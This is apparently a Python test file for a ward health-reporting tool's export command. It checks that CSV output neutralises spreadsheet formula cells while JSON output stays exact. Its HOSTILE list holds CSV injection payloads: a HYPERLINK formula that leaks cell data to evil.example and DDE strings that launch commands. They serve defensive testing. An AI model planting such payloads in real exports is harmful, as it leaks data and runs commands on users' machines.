"""`wardpulse export` CSV cannot be turned against the district's spreadsheet: a text
cell that begins with = + - @, a tab or a CR (ward-supplied payloads, rejected
messages, the reasons quoting them) comes out quoted with a leading ' (OWASP's CSV
injection rule); numbers stay numbers; JSON stays exact. Real broker, aggregator, agent."""
import csv
import io
import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import CLI_BIN, Agent, Aggregator, Broker, TempDir, publish, run_tests, wait_for

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the figures")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


def export(*args):
    """The output exactly as written (harness.cli's text mode would turn a CR into LF)."""
    r = subprocess.run([CLI_BIN, "export"] + list(args), capture_output=True, timeout=60)
    assert r.returncode == 0, r.stderr
    return r.stdout.decode("utf-8")


def rows(db, *args):
    return list(csv.DictReader(io.StringIO(export("--db", db, *args), newline="")))


def test_formula_cells_are_neutralised_in_csv_and_exact_in_json():
    with TempDir() as tmp:
        broker = Broker(tmp).start()
        # Subscribed first: the hostile messages below are published once, with no agent to
        # send them again.
        agg = Aggregator(tmp, broker.port).start().subscribed()
        agent = Agent(tmp, "00001", broker.port, ack_timeout="1s").start()
        agent.submit("2022-05-03", {"cases_new_community": 12}, note=HYPERLINK)
        for payload in HOSTILE:
            publish(broker.port, "wardpulse/v1/report/00001", payload)
        wait_for(lambda: len(rows(agg.db, "--raw")) == 1 + len(HOSTILE), "every message stored")

        raw_csv = export("--db", agg.db, "--raw")
        for payload in HOSTILE:
            quoted = '"\'' + payload.replace('"', '""') + '"'
            assert quoted in raw_csv, (payload, raw_csv)
        raw = rows(agg.db, "--raw")
        payloads = [r["payload"] for r in raw if r["status"] == "rejected"]
        assert sorted(payloads) == sorted("'" + p for p in HOSTILE), payloads
        # No text cell of any CSV export begins with a formula character.
        for args in (["--raw"], ["--rejected"], []):
            for r in rows(agg.db, *args):
                for column, cell in r.items():
                    assert not cell or cell[0] not in "=+-@\t\r", (args, column, cell)
        # The accepted report: numbers stay numbers, its payload (with the note) is intact.
        values = rows(agg.db)
        assert [(v["ward"], v["indicator"], v["value"], v["seq"]) for v in values] == \
            [("00001", "cases_new_community", "12", "1")]
        accepted = [r for r in raw if r["status"] == "accepted"][0]
        assert json.loads(accepted["payload"])["note"] == HYPERLINK
        assert accepted["payload_bytes"] == str(len(accepted["payload"].encode()))

        # JSON is exact: the payloads and the note as received.
        doc = json.loads(export("--db", agg.db, "--raw", "--format", "json"))
        assert sorted(r["payload"] for r in doc if r["status"] == "rejected") == sorted(HOSTILE)
        note = [json.loads(r["payload"])["note"] for r in doc if r["status"] == "accepted"]
        assert note == [HYPERLINK]
        assert all(isinstance(r["seq"], int) for r in doc if r["status"] == "accepted")


run_tests(globals())
